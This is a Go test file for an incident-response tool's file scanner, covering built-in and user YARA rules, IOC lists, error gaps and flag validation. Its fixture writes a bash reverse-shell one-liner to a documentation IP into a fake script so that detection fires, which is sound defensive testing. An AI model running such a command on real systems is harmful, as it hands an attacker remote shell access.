package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
)

// TestFilesYARAAndIOC: vigil files runs Vigil's YARA rules by default, adds
// --rules files (a broken one is a gap naming file:line, the others run)
// and --ioc lists (a hit cites the list and line); --memory on a --root
// target is not applicable.
func TestFilesYARAAndIOC(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot+
		"-- opt/app/run.sh --\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"+
		"-- opt/app/notes.txt --\nacme-internal-marker-42\n"+
		"-- opt/app/kworker.sh --\necho hi\n")
	dir := t.TempDir()
	write := func(name, text string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	rules := write("mine.yar", `rule Acme_Marker { meta: severity = "medium" strings: $a = "acme-internal-marker-42" condition: $a }`)
	broken := write("broken.yar", "rule B {\n condition: nope\n}\n")
	list := write("case.txt", "# case list\nkworker.sh\n")
	r := vigil(t, "files", "--root", root, "--no-store", "-f", "json", "--rules", rules, "--rules", broken, "--ioc", list, "--memory", "/opt")
	if r.code != ExitFindings {
		t.Fatalf("exit %d\n%s", r.code, r.err)
	}
	res := decode[model.Result](t, r)
	got := map[string]model.Finding{}
	for _, f := range res.Findings {
		got[f.RuleID+" "+f.Subject] = f
	}
	if f, ok := got["files.yara.reverse-shell /opt/app/run.sh"]; !ok || f.Technique != "T1059.004" || f.Evidence.Extra["yara_rule"] == "" {
		t.Errorf("reverse shell: %+v (findings %v)", f, keys(got))
	}
	if f, ok := got["files.yara.match /opt/app/notes.txt"]; !ok || f.Severity != model.Medium {
		t.Errorf("user rule: %+v", f)
	}
	if f, ok := got["files.ioc.name /opt/app/kworker.sh"]; !ok || f.Evidence.Extra["ioc_list"] != list || f.Evidence.Extra["ioc_line"] != "2" {
		t.Errorf("ioc: %+v", f)
	}
	var compile, memory bool
	for _, g := range res.Gaps {
		compile = compile || (g.Path == broken && g.Msg.ID == "yara.gap.compile" && strings.Contains(g.Reason, "line 2"))
		memory = memory || g.Check == "memory"
	}
	if !compile || !memory {
		t.Errorf("gaps (compile %v, memory not applicable %v): %+v", compile, memory, res.Gaps)
	}
	for _, bad := range [][]string{{"--memory=12,x"}, {"--rules", filepath.Join(dir, "missing")}, {"--ioc", filepath.Join(dir, "missing")}, {"--no-builtin-rules", "--memory"}, {"--memory", "--max-cpu", "150"}} {
		if r := vigil(t, append([]string{"files", "--root", root, "--no-store"}, bad...)...); r.code != ExitError {
			t.Errorf("%v: exit %d, want usage error", bad, r.code)
		}
	}
}

func keys(m map[string]model.Finding) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
